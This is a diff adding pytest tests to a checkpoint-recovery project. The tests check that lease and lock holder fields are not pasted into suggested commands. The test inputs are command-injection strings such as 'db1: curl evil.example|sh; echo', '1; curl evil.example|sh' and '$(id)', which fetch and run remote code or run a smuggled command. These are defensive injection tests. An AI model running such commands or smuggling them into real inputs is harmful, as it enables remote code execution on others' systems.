@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import itertools
 import json
 import re
 import socket
@@ -12,7 +13,11 @@ import pytest
 from hostile.attacker import INCIDENT, Attacker, Listener, Told, call, writing
 from hostile.test_trust_plans import VERBS, finishing, parsed
 
+from lastgood.recovery.lease import Holder, LeaseHeldError, take_lease
+from lastgood.storage import parse_location
+from lastgood.supervise.hold import CheckpointHeldError, hold_checkpoint
 from lastgood.testing.checkpoints import CheckpointBuilder, FileInput
+from lastgood.testing.storage import MemoryWriter
 
 READING = ("status", "diagnose", "report", "report incident", "plan", "verify", "backup", "inspect", "offsets")
 
@@ -139,3 +144,46 @@ def test_a_host_that_hides_before_a_named_one_is_not_asked(
     told = call("diagnose", tmp_path / "lake/chk", "--sink", named)
     assert told.code != 4, told
     assert set(asked) == {host}
+
+
+PASTED = "db1: curl evil.example|sh; echo"
+
+
+@pytest.mark.parametrize("host", [PASTED, "h\n$(id)", "`id`", "-x", "", "h" * 300, {"a": 1}, ["h"], 7, None, "h\u0665"])
+def test_no_word_of_a_lease_is_pasted(host: object) -> None:
+    """Whoever holds it is shown; the command to look at it is made of names and numbers only."""
+    work, storage, beats = parse_location("s3a://lake/chk.lastgood"), MemoryWriter(), itertools.count()
+
+    def beat(_: float = 0) -> None:
+        holder = {"host": host, "machine": None, "pid": 77, "started": None, "user": "u"}
+        lease = {"recovery": "r", "holder": holder, "taken_at": "x", "beat_at": "x", "beats": next(beats)}
+        storage.write(work / "leases/1.json", json.dumps(lease).encode())
+
+    beat()
+    ours = Holder("here", None, 1, 1, "ann")
+    with pytest.raises(LeaseHeldError) as told:
+        take_lease(storage, work, "r1", holder=ours, clock=lambda: 0, wait=beat, now_ms=lambda: 0)
+    assert told.value.next == "wait until it has ended, then repeat the command"
+
+
+@pytest.mark.parametrize("host", ["h", PASTED, "$(id)", {"a": 1}, None])
+@pytest.mark.parametrize("pid", [4242, "1; curl evil.example|sh", 10**30, -1, 0, True, 1.5, None, [1]])
+def test_no_word_of_a_lock_is_pasted(tmp_path: Path, pid: object, host: object) -> None:
+    lock = tmp_path / "run.lock"
+    with hold_checkpoint("/c", lock):
+        lock.write_text(json.dumps({"pid": pid, "host": host, "since": "now", "work": "run"}))
+        with pytest.raises(CheckpointHeldError) as told, hold_checkpoint("/c", lock):
+            pass
+    assert told.value.next == ("ps -fp 4242" if (pid, host) == (4242, "h") else None)
+
+
+@pytest.mark.parametrize(
+    "content", ["[" * 4000, "9" * 4000, '{"pid": 1}', '{"pid": 1, "host": "h", "since": 1, "work": {}}']
+)
+def test_a_lock_that_says_nothing_is_held_by_somebody(tmp_path: Path, content: str) -> None:
+    lock = tmp_path / "run.lock"
+    with hold_checkpoint("/c", lock):
+        lock.write_text(content)
+        with pytest.raises(CheckpointHeldError) as told, hold_checkpoint("/c", lock):
+            pass
+    assert told.value.found == "a process that has not written its name"
